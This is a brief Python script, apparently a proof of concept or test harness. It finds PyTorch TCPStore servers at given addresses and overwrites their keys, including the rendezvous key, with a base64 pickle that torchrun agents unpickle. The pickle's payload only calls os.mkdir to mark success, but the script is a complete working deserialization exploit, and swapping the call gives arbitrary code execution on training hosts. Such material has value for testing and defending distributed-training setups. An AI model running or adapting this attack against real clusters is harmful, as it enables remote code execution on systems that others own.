"""A stranger who looks for stores of torch at `HOST:PORT...` and writes pickles that make DIRECTORY into what he finds.

`python store_attack.py DIRECTORY HOST:PORT...` prints the stores that took them. It is a process of its own since a
client of a store waits for ever where something else answers.
"""

from __future__ import annotations

import base64
import contextlib
import os
import pickle
import sys
import threading
import time
from datetime import timedelta

from torch.distributed import TCPStore  # pyright: ignore[reportPrivateImportUsage]

PATIENCE_S = 4.0


class MakesDirectory:
    """Unpickled, makes a directory."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        return os.mkdir, (self.path,)


def attack(directory: str, place: str) -> None:
    """Writes the pickle under every key of the store there, as torchrun's agents would: its rendezvous in base64."""
    host, _, port = place.rpartition(":")
    with contextlib.suppress(RuntimeError):
        store = TCPStore(
            host, int(port), is_master=False, timeout=timedelta(seconds=1), wait_for_workers=False
        )
        pickled = pickle.dumps(MakesDirectory(directory))
        for key in (*store.list_keys(), "torch.rendezvous.none"):
            store.set(key, base64.b64encode(pickled).decode())
        print(place, flush=True)


if __name__ == "__main__":
    directory, *places = sys.argv[1:]
    threads = [threading.Thread(target=attack, args=(directory, place), daemon=True) for place in places]
    ends = time.monotonic() + PATIENCE_S
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join(max(0.0, ends - time.monotonic()))
    os._exit(0)
